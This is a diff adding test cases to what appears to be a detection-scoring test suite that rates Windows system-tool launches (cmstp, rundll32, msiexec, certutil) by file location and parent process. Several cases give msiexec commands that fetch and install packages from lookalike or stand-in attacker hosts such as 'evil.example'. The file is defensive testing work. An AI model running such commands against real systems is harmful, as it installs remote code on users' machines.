@@ -13,6 +13,12 @@ const DOCUMENT = { class: 'unc', extension: 'pdf' } as const
 const PAGE = { class: 'unc', extension: 'hta' } as const
 const INSTALLED = { class: 'program-files', extension: 'exe' } as const
 
+const MAKERS = {
+  pattern: 'cmstp <program-data>\\acmevpn\\a.inf',
+  target: { class: 'program-data', extension: 'inf' },
+} as const
+const SET_UP = { target: { class: 'user-temp', extension: 'inf' } } as const
+
 describe('where a file lies counts by what is done with it', () => {
   test.each([
     [
@@ -82,6 +88,114 @@ describe('where a file lies counts by what is done with it', () => {
     ],
     ['a connection profile on the own share', 'own-share', 0.5, { slug: 'cmstp.exe' }],
     ['a library on the own share', 'own-share', 2.5, {}],
+    [
+      'a product loaded by what bears its name',
+      'program-data-folder',
+      1,
+      { ...MAKERS, features: { parent: 'acmevpn.exe @ program-files' }, parentName: 'acmevpn.exe' },
+    ],
+    [
+      'a product that its maker signed',
+      'program-data-folder',
+      1,
+      { ...MAKERS, traits: { module: ['x.dll @ program-data, signed by its maker'] } },
+    ],
+    [
+      'a product beside something unsigned',
+      'program-data-folder',
+      2.5,
+      {
+        ...MAKERS,
+        traits: { module: ['x.dll @ program-data, signed by its maker', 'y.dll @ program-data, unsigned'] },
+      },
+    ],
+    [
+      'what lies deep in a product',
+      'program-data-folder',
+      1.5,
+      { pattern: 'rundll32 <program-data>\\acme\\lims\\x.dll,run' },
+    ],
+    [
+      'what lies deep, loaded by a task',
+      'program-data-folder',
+      2.5,
+      { pattern: 'rundll32 <program-data>\\acme\\lims\\x.dll,run', parentName: 'services.exe' },
+    ],
+    [
+      "what lies deep in Microsoft's",
+      'program-data-folder',
+      2.5,
+      { pattern: 'rundll32 <program-data>\\microsoft\\crypto\\x.dll,run' },
+    ],
+    [
+      "a program tried in another mode from Explorer's menu",
+      'launches-program',
+      1,
+      { slug: 'pcwrun.exe', pattern: 'pcwrun <root-folder>\\old\\a.exe contextmenu' },
+    ],
+    [
+      'an update of Windows',
+      'writable-windows-folder',
+      0.5,
+      {
+        slug: 'msiexec.exe',
+        parentName: 'wuauclt.exe',
+        pattern: 'msiexec /p <windows-writable>\\softwaredistribution\\download\\a.msp',
+      },
+    ],
+    [
+      'the same by a shell',
+      'writable-windows-folder',
+      4,
+      {
+        slug: 'msiexec.exe',
+        parentName: 'cmd.exe',
+        pattern: 'msiexec /p <windows-writable>\\softwaredistribution\\download\\a.msp',
+      },
+    ],
+    [
+      "a package of Microsoft's own",
+      'remote-url',
+      2,
+      { pattern: 'msiexec /i https://download.microsoft.com/*.msi' },
+    ],
+    [
+      'a package of a server that is named like it',
+      'remote-url',
+      5,
+      { pattern: 'msiexec /i https://microsoft.com.example/*.msi' },
+    ],
+    [
+      "a package behind a user's name",
+      'remote-url',
+      5,
+      { pattern: 'msiexec /i https://microsoft.com@evil.example/*.msi' },
+    ],
+    [
+      'one of two addresses',
+      'remote-url',
+      5,
+      { pattern: 'msiexec /i https://download.microsoft.com/*.msi transforms=https://evil.example/*.mst' },
+    ],
+    ["a job of the database's agent", 'inline-script', 1, { slug: 'sqlps.exe', parentName: 'sqlagent.exe' }],
+    [
+      'a certificate with its key in a folder',
+      'temp-folder',
+      0.5,
+      { slug: 'certutil.exe', mode: 'importpfx' },
+    ],
+    [
+      'a driver by its set-up program',
+      'launches-program',
+      2.5,
+      { ...SET_UP, parentName: 'acme-setup.exe', features: { parent: 'acme-setup.exe @ downloads' } },
+    ],
+    [
+      'a driver by any program of a user',
+      'launches-program',
+      4,
+      { ...SET_UP, parentName: 'acme.exe', features: { parent: 'acme.exe @ downloads' } },
+    ],
     [
       'a driver that somebody installs by hand',
       'root-folder',
